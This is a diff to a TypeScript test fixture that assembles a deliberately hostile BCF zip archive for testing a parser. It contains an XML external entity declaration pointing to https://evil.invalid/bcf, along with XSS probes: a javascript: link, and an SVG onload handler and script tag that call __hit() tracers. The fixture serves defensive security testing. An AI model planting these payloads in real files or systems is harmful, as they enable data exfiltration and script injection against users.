@@ -41,7 +41,6 @@ function hostileBcf(): Buffer {
     const topic = guid(place)
     const said = escaped(text)
     files[`${topic}/markup.bcf`] = strToU8(`<?xml version="1.0" encoding="UTF-8"?>
-      <!DOCTYPE Markup [<!ENTITY x SYSTEM "https://evil.invalid/bcf">]>
       <Markup><Topic Guid="${topic}" TopicType="${said}" TopicStatus="${said}"><Title>${place} ${said}</Title>
       <Labels>${said}</Labels><CreationDate>2026-03-02T08:00:00Z</CreationDate><CreationAuthor>${said}</CreationAuthor>
       <Description>${said}</Description><ReferenceLink>javascript:__hit(26)</ReferenceLink></Topic>
@@ -57,6 +56,9 @@ function hostileBcf(): Buffer {
       '<svg xmlns="http://www.w3.org/2000/svg" onload="__hit(27)"><script>__hit(28)</script></svg>',
     )
   })
+  files[`${guid(9_000)}/markup.bcf`] = strToU8(`<?xml version="1.0"?>
+    <!DOCTYPE Markup [<!ENTITY x SYSTEM "https://evil.invalid/bcf">]><Markup><Topic Guid="${guid(9_000)}"><Title>&x;</Title>
+    </Topic></Markup>`)
   return Buffer.from(zipSync(files))
 }
 
